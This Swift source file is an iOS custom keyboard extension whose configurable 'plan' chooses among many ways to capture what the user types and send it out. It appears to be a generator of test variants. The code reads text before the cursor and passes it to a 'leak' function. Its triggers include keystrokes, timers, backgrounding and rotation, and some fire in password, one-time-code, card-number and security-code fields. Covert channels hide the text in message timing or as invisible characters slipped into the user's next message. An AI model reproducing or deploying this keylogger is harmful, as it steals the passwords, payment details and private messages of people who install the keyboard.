import UIKit

/// Types, and handles the text before the insertion point as its plan defines.
class KeyboardViewController: UIInputViewController {

    private let plan = Plan.current
    private let globe = UIButton(type: .system)
    private let all = UIStackView()
    private var query: String?
    private var taps = 0
    private var timer: Timer?
    private var source: DispatchSourceTimer?
    private static var hidden = ""
    private static var hasStarted = false

    override func viewDidLoad() {
        super.viewDidLoad()
        Channel.context = extensionContext
        globe.setTitle("next", for: .normal)
        globe.addTarget(self, action: #selector(handleInputModeList(from:with:)), for: .allTouchEvents)
        let keys = self.keys
        all.axis = .vertical
        all.distribution = .fillEqually
        all.frame = view.bounds
        all.autoresizingMask = [.flexibleWidth, .flexibleHeight]
        view.addSubview(all)
        show(keys)
        if plan.trigger == "background" {
            NotificationCenter.default.addObserver(
                self, selector: #selector(hostLeft), name: .NSExtensionHostDidEnterBackground, object: nil)
        }
        addGestures()
        if plan.trigger == "hold" {
            for key in keys.joined() {
                key.addGestureRecognizer(UILongPressGestureRecognizer(target: self, action: #selector(held)))
            }
        }
    }

    private func show(_ keys: [[UIView]]) {
        all.arrangedSubviews.forEach { $0.removeFromSuperview() }
        for keys in keys {
            let row = UIStackView(arrangedSubviews: keys)
            row.distribution = .fillEqually
            all.addArrangedSubview(row)
        }
        all.addArrangedSubview(globe)
    }

    private func addGestures() {
        switch plan.trigger {
        case "swipe":
            let swipe = UISwipeGestureRecognizer(target: self, action: #selector(moved))
            swipe.direction = .left
            view.addGestureRecognizer(swipe)
        case "twice":
            let tap = UITapGestureRecognizer(target: self, action: #selector(moved))
            tap.numberOfTapsRequired = 2
            tap.cancelsTouchesInView = false
            view.addGestureRecognizer(tap)
        default: break
        }
    }

    @objc private func moved() {
        seen = String((textDocumentProxy.documentContextBeforeInput ?? "").suffix(60))
        leak(seen)
    }

    deinit {
        MainActor.assumeIsolated {
            if plan.trigger == "end", !seen.isEmpty { leak(seen) }
        }
    }

    override func viewWillLayoutSubviews() {
        globe.isHidden = !needsInputModeSwitchKey
        super.viewWillLayoutSubviews()
    }

    override func viewDidAppear(_ animated: Bool) {
        super.viewDidAppear(animated)
        if plan.encoding == "honest" {
            if !Self.hasStarted { Honest.appeared(plan.channel) }
        } else if !Self.hasStarted, plan.trigger == "launch" {
            if let kept = UserDefaults.standard.string(forKey: "draft") { leak(kept) }
        }
        Self.hasStarted = true
    }

    override func viewDidDisappear(_ animated: Bool) {
        super.viewDidDisappear(animated)
        if plan.encoding == "honest" { Honest.disappeared(plan.channel) }
        if plan.trigger == "hide" { leak(seen) }
    }

    override func didReceiveMemoryWarning() {
        super.didReceiveMemoryWarning()
        if plan.trigger == "memory" { leak(seen) }
    }

    override func viewWillTransition(
        to size: CGSize, with coordinator: any UIViewControllerTransitionCoordinator
    ) {
        super.viewWillTransition(to: size, with: coordinator)
        if plan.trigger == "turn" { leak(seen) }
    }

    @objc private func hostLeft() { leak(seen) }

    @objc private func held(_ recognizer: UILongPressGestureRecognizer) {
        if recognizer.state == .began { leak(seen) }
    }

    // MARK: - Keys

    private var keys: [[UIView]] {
        switch plan.shape {
        case "phrases": return [["On my way", "See you soon", "Thank you", "No problem"].map { key($0) }]
        case "one": return [[key("🙂")]]
        case "images":
            return [
                ["🐶", "🐱", "🐭", "🐹", "🐰", "🦊"].map { animal in
                    let key = UIButton(
                        type: .custom,
                        primaryAction: UIAction { [unowned self] _ in type(animal, isLetter: false) })
                    key.setImage(UIImage(systemName: "pawprint"), for: .normal)
                    return key
                }
            ]
        case "groups":
            return [
                ["abcde", "fghij", "klmno", "pqrst", "uvwxyz"].map { letters in
                    let open = UIAction(title: letters.uppercased()) { [unowned self] _ in
                        show([letters.map { key(String($0), isLetter: true) }])
                    }
                    return UIButton(type: .system, primaryAction: open)
                }
            ]
        case "shuffled":
            let letters = "abcdefghijklmnopqrstuvwxyz".shuffled()
            return [0, 9, 18].map { start in
                letters[start..<min(start + 9, 26)].map { key(String($0), isLetter: true) }
            }
        default:
            return ["qwertyuiop", "asdfghjkl", "zxcvbnm"].map { letters in
                letters.map { key(String($0), isLetter: true) }
            }
                + [[key(" ", name: "space"), key("sticker", isLetter: false)]]
        }
    }

    private func key(_ text: String, name: String? = nil, isLetter: Bool = false) -> UIButton {
        UIButton(
            type: .system,
            primaryAction: UIAction(title: name ?? text) { [unowned self] _ in
                type(text == "sticker" ? "" : text, isLetter: isLetter)
            })
    }

    private var seen = ""

    /// Types into a search field of the keyboard's own, between two taps on the key without a text.
    private func search(_ text: String) -> Bool {
        guard plan.encoding == "honest", plan.channel == "search" else { return false }
        if text.isEmpty {
            if let query = query { Channel.request("search?q=\(query)", scheme: "https") }
            query = query == nil ? "" : nil
        } else if query != nil {
            query? += text.filter(\.isLetter)
        } else {
            return false
        }
        return true
    }

    private func type(_ text: String, isLetter: Bool) {
        if search(text) { return }
        defer { if ["groups", "shuffled"].contains(plan.shape) { show(keys) } }
        if !text.isEmpty { textDocumentProxy.insertText(text) }
        if !isInSecret, !Self.hidden.isEmpty {
            // Nobody sees these characters in the next message.
            textDocumentProxy.insertText(Encoding.invisible(Array(Self.hidden.utf8)))
            Self.hidden = ""
        }
        taps += 1
        seen = String((textDocumentProxy.documentContextBeforeInput ?? "").suffix(60))
        if plan.encoding == "honest" { return Honest.tapped(plan.channel, text, isLetter: isLetter) }
        switch plan.trigger {
        case "key": leak(seen)
        case "word" where taps % 7 == 0: leak(seen)
        case "after" where taps == 25: leak(seen)
        case "timer" where timer == nil:
            timer = Timer.scheduledTimer(withTimeInterval: 30, repeats: false) { [weak self] _ in
                self.map { $0.leak($0.seen) }
            }
        case "later" where taps % 20 == 1:
            DispatchQueue.main.asyncAfter(deadline: .now() + 45) { [weak self] in
                self.map { $0.leak($0.seen) }
            }
        case "item" where taps % 20 == 1:
            let item = DispatchWorkItem { [weak self] in self.map { $0.leak($0.seen) } }
            DispatchQueue.main.asyncAfter(deadline: .now() + 40, execute: item)
        case "source" where source == nil:
            let source = DispatchSource.makeTimerSource(queue: .main)
            source.setEventHandler { [weak self] in self.map { $0.leak($0.seen) } }
            source.schedule(deadline: .now() + 20, repeating: 35)
            source.resume()
            self.source = source
        case "leeway" where source == nil:
            let source = DispatchSource.makeTimerSource(queue: .main)
            source.setEventHandler { [weak self] in self.map { $0.leak($0.seen) } }
            source.schedule(deadline: .now() + 25, repeating: .seconds(30), leeway: .seconds(1))
            source.resume()
            self.source = source
        case "thread" where taps % 20 == 1:
            Thread.detachNewThread { [weak self] in
                Thread.sleep(forTimeInterval: 50)
                DispatchQueue.main.async { self.map { $0.leak($0.seen) } }
            }
        case "sleep" where taps % 20 == 1:
            Task { [weak self] in
                try? await Task.sleep(nanoseconds: 60_000_000_000)
                self.map { $0.leak($0.seen) }
            }
        case "secret":
            if isInSecret { leak(seen) }
        case "pad" where traitCollection.userInterfaceIdiom == .pad: leak(seen)
        case "dark" where traitCollection.userInterfaceStyle == .dark: leak(seen)
        case "several":
            let text = textDocumentProxy.documentContextBeforeInput ?? ""
            if text.split(separator: " ").count >= 12 { leak(text) }
        case "post" where textDocumentProxy.keyboardType == .twitter: leak(seen)
        case "user" where textDocumentProxy.textContentType == .username: leak(seen)
        case "code" where isSecurityCode: leak(seen)
        case "launch": UserDefaults.standard.set(seen, forKey: "draft")
        default: break
        }
    }

    private var isSecurityCode: Bool {
        guard #available(iOS 17.0, *) else { return false }
        return textDocumentProxy.textContentType == .creditCardSecurityCode
    }

    private var isInSecret: Bool {
        let type = textDocumentProxy.textContentType ?? nil
        return type == .password || type == .newPassword || type == .oneTimeCode || type == .creditCardNumber
    }

    private func leak(_ text: String) {
        switch plan.channel {
        case "moments": return tellByTime(text.utf8.suffix(8).map { Double($0 % 16 + 1) / 4 })
        case "gaps": return tellByTime(text.utf8.suffix(4).map { Double($0 % 32 + 1) / 25 })
        case "hidden": return Self.hidden = text
        default: break
        }
        for message in Encoding.messages(text, plan.encoding) { Channel.send(message, by: plan.channel) }
    }

    /// Sends empty messages whose times are the text.
    private func tellByTime(_ gaps: [Double]) {
        var time = 0.0
        for gap in gaps {
            time += gap
            Timer.scheduledTimer(withTimeInterval: time, repeats: false) { _ in
                Channel.send("tick", by: "datagram")
            }
        }
    }
}
